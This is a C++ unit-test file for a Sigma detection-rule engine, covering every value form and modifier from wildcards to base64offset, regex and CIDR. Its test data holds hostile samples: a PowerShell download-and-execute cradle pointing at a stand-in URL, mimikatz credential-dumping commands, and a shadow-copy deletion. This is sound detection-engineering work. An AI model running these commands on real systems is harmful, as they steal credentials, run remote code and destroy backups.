// Every value form and modifier of the Sigma specification (v2.1, appendix "Modifiers"), one
// assertion per case. Expected behaviour follows the specification, and pySigma (the reference
// implementation) where the specification leaves a detail open.
#include <gtest/gtest.h>

#include "core/time.hpp"
#include "match_helpers.hpp"
#include "sigma/sigma_string.hpp"

using vigie::core::Value;
using vigie::test::matches;
using vigie::test::rejection;

namespace {

std::string utf16le(std::string_view ascii) {
    std::string out;
    for (const char c : ascii) {
        out.push_back(c);
        out.push_back('\0');
    }
    return out;
}

}  // namespace

// ---- plain values ------------------------------------------------------------------------

TEST(Values, EqualityIsCaseInsensitive) {
    EXPECT_TRUE(matches("sel: {Image: 'C:\\Windows\\cmd.exe'}\ncondition: sel",
                        {{"Image", "c:\\windows\\CMD.EXE"}}));
}
TEST(Values, EqualityIsWholeValue) {
    EXPECT_FALSE(matches("sel: {Image: 'C:\\Windows\\cmd.exe'}\ncondition: sel",
                         {{"Image", "C:\\Windows\\cmd.exe2"}}));
}
TEST(Values, UnicodeCaseFoldingLatin) {
    EXPECT_TRUE(matches("sel: {User: 'ÉLODIE'}\ncondition: sel", {{"User", "élodie"}}));
}
TEST(Values, UnicodeCaseFoldingCyrillic) {
    EXPECT_TRUE(matches("sel: {User: 'ЖУК'}\ncondition: sel", {{"User", "жук"}}));
}
// A backslash before `*` escapes it: a path with a wildcard after a backslash is written `\\*`.
TEST(Values, StarMatchesAnyRun) {
    EXPECT_TRUE(matches("sel: {Image: 'C:\\\\*\\\\cmd.exe'}\ncondition: sel",
                        {{"Image", "C:\\Windows\\System32\\cmd.exe"}}));
}
TEST(Values, StarInTheMiddleNeedsBothEnds) {
    EXPECT_FALSE(matches("sel: {Image: 'C:\\\\*\\\\cmd.exe'}\ncondition: sel",
                         {{"Image", "D:\\Windows\\cmd.exe"}}));
}
TEST(Values, BackslashStarIsALiteralStar) {
    EXPECT_TRUE(
        matches("sel: {Image: 'C:\\*\\cmd.exe'}\ncondition: sel", {{"Image", "C:*\\cmd.exe"}}));
}
TEST(Values, QuestionMarkMatchesOneCharacter) {
    EXPECT_TRUE(matches("sel: {Image: 'cmd.ex?'}\ncondition: sel", {{"Image", "cmd.exe"}}));
}
TEST(Values, QuestionMarkNeedsOneCharacter) {
    EXPECT_FALSE(matches("sel: {Image: 'cmd.ex?'}\ncondition: sel", {{"Image", "cmd.ex"}}));
}
TEST(Values, QuestionMarkMatchesOneMultiByteCharacter) {
    EXPECT_TRUE(matches("sel: {Word: 'caf?'}\ncondition: sel", {{"Word", "café"}}));
}
TEST(Values, EscapedStarIsLiteral) {
    EXPECT_TRUE(matches("sel: {V: 'a\\*b'}\ncondition: sel", {{"V", "a*b"}}));
}
TEST(Values, EscapedStarIsNotAWildcard) {
    EXPECT_FALSE(matches("sel: {V: 'a\\*b'}\ncondition: sel", {{"V", "axb"}}));
}
TEST(Values, EscapedQuestionMarkIsLiteral) {
    EXPECT_FALSE(matches("sel: {V: 'a\\?b'}\ncondition: sel", {{"V", "axb"}}));
}
TEST(Values, DoubleBackslashIsOneBackslash) {
    EXPECT_TRUE(
        matches("sel: {V: '\\\\\\\\server\\share'}\ncondition: sel", {{"V", "\\\\server\\share"}}));
}
TEST(Values, LoneBackslashBeforeOtherCharacterIsLiteral) {
    EXPECT_TRUE(matches("sel: {V: 'C:\\Windows'}\ncondition: sel", {{"V", "C:\\Windows"}}));
}
TEST(Values, NumberMatchesItsTextForm) {
    EXPECT_TRUE(matches("sel: {EventID: 4688}\ncondition: sel", {{"EventID", "4688"}}));
}
TEST(Values, NumberMatchesANumericField) {
    EXPECT_TRUE(
        matches("sel: {EventID: 4688}\ncondition: sel", {{"EventID", Value::uint64(4688)}}));
}
TEST(Values, QuotedNumberMatchesToo) {
    EXPECT_TRUE(
        matches("sel: {EventID: '4688'}\ncondition: sel", {{"EventID", Value::uint64(4688)}}));
}
TEST(Values, BooleanMatchesItsText) {
    EXPECT_TRUE(matches("sel: {Enabled: true}\ncondition: sel", {{"Enabled", "true"}}));
}
TEST(Values, NullMatchesAnAbsentField) {
    EXPECT_TRUE(matches("sel: {A: 1}\nf: {B: null}\ncondition: sel and f", {{"A", "1"}}));
}
TEST(Values, NullMatchesANullField) {
    EXPECT_TRUE(matches("sel: {A: 1}\nf: {B: null}\ncondition: sel and f",
                        {{"A", "1"}, {"B", Value::null()}}));
}
TEST(Values, NullDoesNotMatchAnEmptyString) {
    EXPECT_FALSE(
        matches("sel: {A: 1}\nf: {B: null}\ncondition: sel and f", {{"A", "1"}, {"B", ""}}));
}
TEST(Values, EmptyStringMatchesAnEmptyField) {
    EXPECT_TRUE(matches("sel: {B: ''}\ncondition: sel", {{"B", ""}}));
}
TEST(Values, EmptyStringDoesNotMatchAnAbsentField) {
    EXPECT_FALSE(matches("sel: {B: ''}\ncondition: sel", {{"A", "x"}}));
}
TEST(Values, ListIsOr) {
    EXPECT_TRUE(matches("sel: {Image: [a.exe, b.exe]}\ncondition: sel", {{"Image", "b.exe"}}));
}
TEST(Values, MapIsAnd) {
    EXPECT_FALSE(matches("sel: {Image: a.exe, User: bob}\ncondition: sel",
                         {{"Image", "a.exe"}, {"User", "eve"}}));
}
TEST(Values, ListOfMapsIsOrOfAnds) {
    EXPECT_TRUE(matches("sel:\n  - {Image: a.exe, User: bob}\n  - {Image: b.exe}\ncondition: sel",
                        {{"Image", "b.exe"}, {"User", "eve"}}));
}
TEST(Values, RepeatedFieldMatchesAnyOccurrence) {
    EXPECT_TRUE(
        matches("sel: {Data: second}\ncondition: sel", {{"Data", "first"}, {"Data", "second"}}));
}
TEST(Values, FieldNamesIgnoreCaseAndSpaces) {
    EXPECT_TRUE(matches("sel: {ThreatName: eicar}\ncondition: sel", {{"Threat Name", "EICAR"}}));
}
TEST(Keywords, ListMatchesAnyFieldAnywhere) {
    EXPECT_TRUE(matches("keywords: ['event::clear', 'sekurlsa']\ncondition: keywords",
                        {{"CommandLine", "mimikatz sekurlsa::logonpasswords"}}));
}
TEST(Keywords, NoKeywordNoMatch) {
    EXPECT_FALSE(
        matches("keywords: ['event::clear']\ncondition: keywords", {{"CommandLine", "whoami"}}));
}
TEST(Keywords, AllNeedsEveryKeyword) {
    EXPECT_FALSE(
        matches("keywords:\n  '|all': [OabVirtualDirectory, ' -ExternalUrl ']\ncondition: keywords",
                {{"Payload", "Set-OabVirtualDirectory -Identity x"}}));
}
TEST(Keywords, AllAcrossFields) {
    EXPECT_TRUE(
        matches("keywords:\n  '|all': [OabVirtualDirectory, ' -ExternalUrl ']\ncondition: keywords",
                {{"A", "Set-OabVirtualDirectory"}, {"B", "x -ExternalUrl y"}}));
}

// ---- generic modifiers -------------------------------------------------------------------

TEST(Modifiers, Contains) {
    EXPECT_TRUE(matches("sel: {CommandLine|contains: 'delete shadows'}\ncondition: sel",
                        {{"CommandLine", "vssadmin Delete Shadows /all"}}));
}
TEST(Modifiers, StartsWith) {
    EXPECT_TRUE(matches("sel: {Image|startswith: 'C:\\Users\\'}\ncondition: sel",
                        {{"Image", "C:\\Users\\Public\\x.exe"}}));
}
TEST(Modifiers, StartsWithIsAnchored) {
    EXPECT_FALSE(matches("sel: {Image|startswith: 'Users'}\ncondition: sel",
                         {{"Image", "C:\\Users\\x.exe"}}));
}
TEST(Modifiers, EndsWith) {
    EXPECT_TRUE(matches("sel: {Image|endswith: '\\AdFind.exe'}\ncondition: sel",
                        {{"Image", "C:\\Temp\\adfind.EXE"}}));
}
TEST(Modifiers, AllNeedsEveryValue) {
    EXPECT_FALSE(matches("sel: {CommandLine|contains|all: [' group', '/domain']}\ncondition: sel",
                         {{"CommandLine", "net group admins"}}));
}
TEST(Modifiers, AllMatchesInAnyOrder) {
    EXPECT_TRUE(matches("sel: {CommandLine|contains|all: [' group', '/domain']}\ncondition: sel",
                        {{"CommandLine", "net /domain group"}}));
}
TEST(Modifiers, Cased) {
    EXPECT_FALSE(matches("sel: {Image|cased: 'CMD.exe'}\ncondition: sel", {{"Image", "cmd.exe"}}));
}
TEST(Modifiers, CasedExact) {
    EXPECT_TRUE(matches("sel: {Image|cased: 'CMD.exe'}\ncondition: sel", {{"Image", "CMD.exe"}}));
}
TEST(Modifiers, NeqSingle) {
    EXPECT_TRUE(matches("sel: {User|neq: admin}\ncondition: sel", {{"User", "bob"}}));
}
TEST(Modifiers, NeqSingleEqual) {
    EXPECT_FALSE(matches("sel: {User|neq: admin}\ncondition: sel", {{"User", "ADMIN"}}));
}
TEST(Modifiers, NeqListIsNoneOf) {
    EXPECT_FALSE(matches("sel: {User|neq: [admin, root]}\ncondition: sel", {{"User", "root"}}));
}
TEST(Modifiers, ExistsTrue) {
    EXPECT_TRUE(
        matches("sel: {PasswordLastSet|exists: true}\ncondition: sel", {{"PasswordLastSet", ""}}));
}
TEST(Modifiers, ExistsFalse) {
    EXPECT_TRUE(matches("sel: {EventID: 1, PasswordLastSet|exists: false}\ncondition: sel",
                        {{"EventID", "1"}}));
}
TEST(Modifiers, ExistsNeedsABoolean) {
    EXPECT_NE(rejection("sel: {A|exists: yes please}\ncondition: sel"), "");
}

// ---- string modifiers ----------------------------------------------------------------------

TEST(Windash, SlashForDash) {
    EXPECT_TRUE(matches("sel: {CommandLine|windash|contains: ' -enc '}\ncondition: sel",
                        {{"CommandLine", "powershell /enc AAA"}}));
}
TEST(Windash, EnDash) {
    EXPECT_TRUE(matches("sel: {CommandLine|windash|contains: ' -enc '}\ncondition: sel",
                        {{"CommandLine",
                          "powershell \xE2\x80\x93"
                          "enc AAA"}}));
}
TEST(Windash, EmDash) {
    EXPECT_TRUE(matches("sel: {CommandLine|windash|contains: ' -enc '}\ncondition: sel",
                        {{"CommandLine",
                          "powershell \xE2\x80\x94"
                          "enc AAA"}}));
}
TEST(Windash, HorizontalBar) {
    EXPECT_TRUE(matches("sel: {CommandLine|windash|contains: ' -enc '}\ncondition: sel",
                        {{"CommandLine",
                          "powershell \xE2\x80\x95"
                          "enc AAA"}}));
}
TEST(Windash, OnlyOptionStartsExpand) {
    EXPECT_FALSE(matches("sel: {CommandLine|windash|contains: 'a-b'}\ncondition: sel",
                         {{"CommandLine", "a/b"}}));
}
TEST(Windash, EveryCombinationOfTwoPositions) {
    EXPECT_TRUE(matches("sel: {CommandLine|windash|contains: ' -a -b'}\ncondition: sel",
                        {{"CommandLine",
                          "x /a \xE2\x80\x93"
                          "b"}}));
}
TEST(Windash, ExpandsToFiveTimesFiveValues) {
    auto v = vigie::sigma::expand_windash(vigie::sigma::SigmaString::parse(" -a -b"));
    ASSERT_TRUE(v);
    EXPECT_EQ(v->size(), 25u);
}
TEST(Windash, WithAllEachValueExpandsAlone) {
    EXPECT_TRUE(matches("sel: {CommandLine|windash|contains|all: [' -a', ' -b']}\ncondition: sel",
                        {{"CommandLine", "x /a -b"}}));
}
TEST(Base64, EncodesTheValue) {
    EXPECT_TRUE(matches("sel: {Payload|base64: 'cmd'}\ncondition: sel", {{"Payload", "Y21k"}}));
}
TEST(Base64, WithContains) {
    EXPECT_TRUE(matches("sel: {Payload|base64|contains: 'cmd'}\ncondition: sel",
                        {{"Payload", "xxY21kyy"}}));
}
TEST(Base64, RefusesWildcards) {
    EXPECT_NE(rejection("sel: {Payload|base64: 'cm*'}\ncondition: sel"), "");
}
TEST(Base64Offset, TheThreeEncodingsOfPySigma) {
    // pySigma: b64encode(i * b" " + value)[start[i] : end[(len + i) % 3]], start (0, 2, 3),
    // end (None, -3, -2). For "/bin/sh" (7 bytes): L2Jpbi9za, 9iaW4vc2, vYmluL3No.
    auto v = vigie::sigma::encode_base64_offsets(vigie::sigma::SigmaString::parse("/bin/sh"));
    ASSERT_TRUE(v);
    ASSERT_EQ(v->size(), 3u);
    EXPECT_EQ((*v)[0].plain_text() + "|" + (*v)[1].plain_text() + "|" + (*v)[2].plain_text(),
              "L2Jpbi9za|9iaW4vc2|vYmluL3No");
}
TEST(Base64Offset, FindsTheValueAtEachAlignment) {
    const char* rule =
        "sel: {CommandLine|base64offset|contains: 'Invoke-Mimikatz'}\ncondition: sel";
    for (const char* prefix : {"", "x", "xy"}) {
        const std::string encoded =
            vigie::sigma::base64_encode(std::string(prefix) + "Invoke-Mimikatz -Dump");
        EXPECT_TRUE(matches(rule, {{"CommandLine", "powershell -e " + encoded}})) << prefix;
    }
}
TEST(Base64Offset, WideForPowerShellEncodedCommand) {
    const std::string script = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')";
    const std::string encoded = vigie::sigma::base64_encode(utf16le(script));
    EXPECT_TRUE(
        matches("sel: {CommandLine|wide|base64offset|contains: 'Net.WebClient'}\ncondition: sel",
                {{"CommandLine", "powershell.exe -EncodedCommand " + encoded}}));
}
TEST(Utf16, WideIsUtf16LittleEndian) {
    EXPECT_TRUE(matches("sel: {Data|wide: 'cmd'}\ncondition: sel",
                        {{"Data", std::string("c\0m\0d\0", 6)}}));
}
TEST(Utf16, Utf16leIsWide) {
    EXPECT_TRUE(matches("sel: {Data|utf16le: 'cmd'}\ncondition: sel",
                        {{"Data", std::string("c\0m\0d\0", 6)}}));
}
TEST(Utf16, Utf16be) {
    EXPECT_TRUE(matches("sel: {Data|utf16be: 'cmd'}\ncondition: sel",
                        {{"Data", std::string("\0c\0m\0d", 6)}}));
}
TEST(Utf16, Utf16HasAByteOrderMark) {
    EXPECT_TRUE(
        matches("sel: {Data|utf16: 'cmd'}\ncondition: sel", {{"Data", std::string("\xFF\xFE"
                                                                                  "c\0m\0d\0",
                                                                                  8)}}));
}

// ---- regular expressions -------------------------------------------------------------------

TEST(Regex, SearchesAnywhere) {
    EXPECT_TRUE(matches("sel: {Image|re: 'cmd\\.exe$'}\ncondition: sel",
                        {{"Image", "C:\\Windows\\cmd.exe"}}));
}
TEST(Regex, CaseSensitiveByDefault) {
    EXPECT_FALSE(matches("sel: {Image|re: 'cmd\\.exe$'}\ncondition: sel",
                         {{"Image", "C:\\Windows\\CMD.EXE"}}));
}
TEST(Regex, IgnoreCaseFlag) {
    EXPECT_TRUE(matches("sel: {Image|re|i: 'cmd\\.exe$'}\ncondition: sel",
                        {{"Image", "C:\\Windows\\CMD.EXE"}}));
}
TEST(Regex, MultiLineFlag) {
    EXPECT_TRUE(
        matches("sel: {Script|re|m: '^second'}\ncondition: sel", {{"Script", "first\nsecond"}}));
}
TEST(Regex, WithoutMultiLineCaretIsTheStart) {
    EXPECT_FALSE(
        matches("sel: {Script|re: '^second'}\ncondition: sel", {{"Script", "first\nsecond"}}));
}
TEST(Regex, DotAllFlag) {
    EXPECT_TRUE(matches("sel: {Script|re|s: 'first.second'}\ncondition: sel",
                        {{"Script", "first\nsecond"}}));
}
TEST(Regex, DotDoesNotMatchNewlineByDefault) {
    EXPECT_FALSE(
        matches("sel: {Script|re: 'first.second'}\ncondition: sel", {{"Script", "first\nsecond"}}));
}
TEST(Regex, ValueIsNotASigmaWildcardString) {
    EXPECT_TRUE(matches("sel: {V|re: 'a*b'}\ncondition: sel", {{"V", "b"}}));
}
TEST(Regex, BackreferencesAreRejectedWithTheReason) {
    EXPECT_NE(rejection("sel: {V|re: '(a)\\1'}\ncondition: sel").find("RE2"), std::string::npos);
}
TEST(Regex, LookaheadIsRejectedWithTheReason) {
    EXPECT_NE(rejection("sel: {V|re: 'a(?=b)'}\ncondition: sel").find("RE2"), std::string::npos);
}
TEST(Regex, FlagsNeedRe) {
    EXPECT_NE(rejection("sel: {V|i: 'a'}\ncondition: sel"), "");
}

// ---- numbers, addresses, times ---------------------------------------------------------------

TEST(Compare, LessThan) {
    EXPECT_TRUE(matches("sel: {N|lt: 10}\ncondition: sel", {{"N", "9"}}));
}
TEST(Compare, LessThanEdge) {
    EXPECT_FALSE(matches("sel: {N|lt: 10}\ncondition: sel", {{"N", "10"}}));
}
TEST(Compare, LessOrEqualEdge) {
    EXPECT_TRUE(matches("sel: {N|lte: 10}\ncondition: sel", {{"N", "10"}}));
}
TEST(Compare, GreaterThanEdge) {
    EXPECT_FALSE(matches("sel: {N|gt: 10}\ncondition: sel", {{"N", "10"}}));
}
TEST(Compare, GreaterOrEqualEdge) {
    EXPECT_TRUE(matches("sel: {N|gte: 10}\ncondition: sel", {{"N", Value::uint64(10)}}));
}
TEST(Compare, HexadecimalField) {
    EXPECT_TRUE(matches("sel: {N|gt: 255}\ncondition: sel", {{"N", "0x100"}}));
}
TEST(Compare, NotANumber) {
    EXPECT_FALSE(matches("sel: {N|gt: 1}\ncondition: sel", {{"N", "many"}}));
}
TEST(Compare, NeedsANumber) {
    EXPECT_NE(rejection("sel: {N|gt: many}\ncondition: sel"), "");
}
TEST(Cidr, Ipv4Inside) {
    EXPECT_TRUE(matches("sel: {DestinationIp|cidr: 10.0.0.0/8}\ncondition: sel",
                        {{"DestinationIp", "10.20.4.57"}}));
}
TEST(Cidr, Ipv4Outside) {
    EXPECT_FALSE(matches("sel: {DestinationIp|cidr: 10.0.0.0/8}\ncondition: sel",
                         {{"DestinationIp", "11.0.0.1"}}));
}
TEST(Cidr, Ipv4NarrowPrefix) {
    EXPECT_FALSE(matches("sel: {DestinationIp|cidr: 192.168.1.0/25}\ncondition: sel",
                         {{"DestinationIp", "192.168.1.200"}}));
}
TEST(Cidr, Ipv6Inside) {
    EXPECT_TRUE(matches("sel: {DestinationIp|cidr: 'fe80::/10'}\ncondition: sel",
                        {{"DestinationIp", "fe80::1c2a:3b4d"}}));
}
TEST(Cidr, Ipv6Outside) {
    EXPECT_FALSE(matches("sel: {DestinationIp|cidr: 'fe80::/10'}\ncondition: sel",
                         {{"DestinationIp", "2001:db8::1"}}));
}
TEST(Cidr, NotAnAddress) {
    EXPECT_FALSE(matches("sel: {DestinationIp|cidr: 10.0.0.0/8}\ncondition: sel",
                         {{"DestinationIp", "localhost"}}));
}
TEST(Cidr, BadNetworkIsRejected) {
    EXPECT_NE(rejection("sel: {DestinationIp|cidr: 10.0.0.0/33}\ncondition: sel"), "");
}
TEST(TimeParts, Hour) {
    EXPECT_TRUE(matches("sel: {UtcTime|hour: 3}\ncondition: sel",
                        {{"UtcTime", "2019-11-15 03:12:40.000"}}));
}
TEST(TimeParts, Minute) {
    EXPECT_TRUE(matches("sel: {UtcTime|minute: 12}\ncondition: sel",
                        {{"UtcTime", "2019-11-15 03:12:40.000"}}));
}
TEST(TimeParts, Day) {
    EXPECT_TRUE(
        matches("sel: {UtcTime|day: 15}\ncondition: sel", {{"UtcTime", "2019-11-15T03:12:40Z"}}));
}
TEST(TimeParts, Month) {
    EXPECT_TRUE(
        matches("sel: {UtcTime|month: 11}\ncondition: sel", {{"UtcTime", "2019-11-15T03:12:40Z"}}));
}
TEST(TimeParts, Year) {
    EXPECT_TRUE(matches("sel: {UtcTime|year: 2019}\ncondition: sel",
                        {{"UtcTime", "2019-11-15T03:12:40Z"}}));
}
TEST(TimeParts, IsoWeek) {
    EXPECT_TRUE(
        matches("sel: {UtcTime|week: 46}\ncondition: sel", {{"UtcTime", "2019-11-15T03:12:40Z"}}));
}
TEST(TimeParts, FileTimeValue) {
    const auto t = vigie::core::parse_iso8601("2019-11-15T22:05:00Z");
    ASSERT_TRUE(t);
    EXPECT_TRUE(matches("sel: {SystemTime|hour: 22}\ncondition: sel",
                        {{"SystemTime", Value::filetime(*t)}}));
}
TEST(TimeParts, OtherHour) {
    EXPECT_FALSE(matches("sel: {UtcTime|hour: 4}\ncondition: sel",
                         {{"UtcTime", "2019-11-15 03:12:40.000"}}));
}

// ---- field references, placeholders, errors --------------------------------------------------

TEST(FieldRef, Equal) {
    EXPECT_TRUE(matches("sel: {TargetUserName|fieldref: SubjectUserName}\ncondition: sel",
                        {{"TargetUserName", "Bob"}, {"SubjectUserName", "bob"}}));
}
TEST(FieldRef, Different) {
    EXPECT_FALSE(matches("sel: {TargetUserName|fieldref: SubjectUserName}\ncondition: sel",
                         {{"TargetUserName", "bob"}, {"SubjectUserName", "eve"}}));
}
TEST(FieldRef, WithNeq) {
    EXPECT_TRUE(matches("sel: {TargetUserName|fieldref|neq: SubjectUserName}\ncondition: sel",
                        {{"TargetUserName", "bob"}, {"SubjectUserName", "eve"}}));
}
TEST(FieldRef, WithContains) {
    EXPECT_TRUE(matches("sel: {CommandLine|fieldref|contains: Image}\ncondition: sel",
                        {{"CommandLine", "\"C:\\a.exe\" /x"}, {"Image", "C:\\a.exe"}}));
}
TEST(FieldRef, WithStartsWith) {
    EXPECT_TRUE(matches("sel: {Path|fieldref|startswith: Dir}\ncondition: sel",
                        {{"Path", "C:\\Temp\\x"}, {"Dir", "C:\\Temp"}}));
}
TEST(FieldRef, WithEndsWith) {
    EXPECT_FALSE(matches("sel: {Path|fieldref|endswith: Dir}\ncondition: sel",
                         {{"Path", "C:\\Temp\\x"}, {"Dir", "C:\\Temp"}}));
}
TEST(FieldRef, MissingReferencedField) {
    EXPECT_FALSE(matches("sel: {TargetUserName|fieldref: SubjectUserName}\ncondition: sel",
                         {{"TargetUserName", "bob"}}));
}
TEST(Expand, ConfiguredPlaceholderExpandsToItsValues) {
    const vigie::sigma::Placeholders p = {{"Administrators", {"adm-*", "root"}}};
    EXPECT_TRUE(matches("sel: {User|expand: '%Administrators%'}\ncondition: sel",
                        {{"User", "ADM-backup"}}, &p));
}
TEST(Expand, ConfiguredPlaceholderOtherValue) {
    const vigie::sigma::Placeholders p = {{"Administrators", {"adm-*", "root"}}};
    EXPECT_FALSE(
        matches("sel: {User|expand: '%Administrators%'}\ncondition: sel", {{"User", "bob"}}, &p));
}
TEST(Expand, UnconfiguredPlaceholderRejectsTheRuleByName) {
    EXPECT_NE(rejection("sel: {User|expand: '%Administrators%'}\ncondition: sel")
                  .find("%Administrators%"),
              std::string::npos);
}
TEST(Expand, WithoutExpandPercentIsLiteral) {
    EXPECT_TRUE(
        matches("sel: {User: '%Administrators%'}\ncondition: sel", {{"User", "%administrators%"}}));
}
TEST(Errors, UnknownModifier) {
    EXPECT_NE(
        rejection("sel: {Image|endswithh: x}\ncondition: sel").find("unknown modifier 'endswithh'"),
        std::string::npos);
}
TEST(Errors, NullWithModifiers) {
    EXPECT_NE(rejection("sel: {Image|contains: null}\ncondition: sel"), "");
}
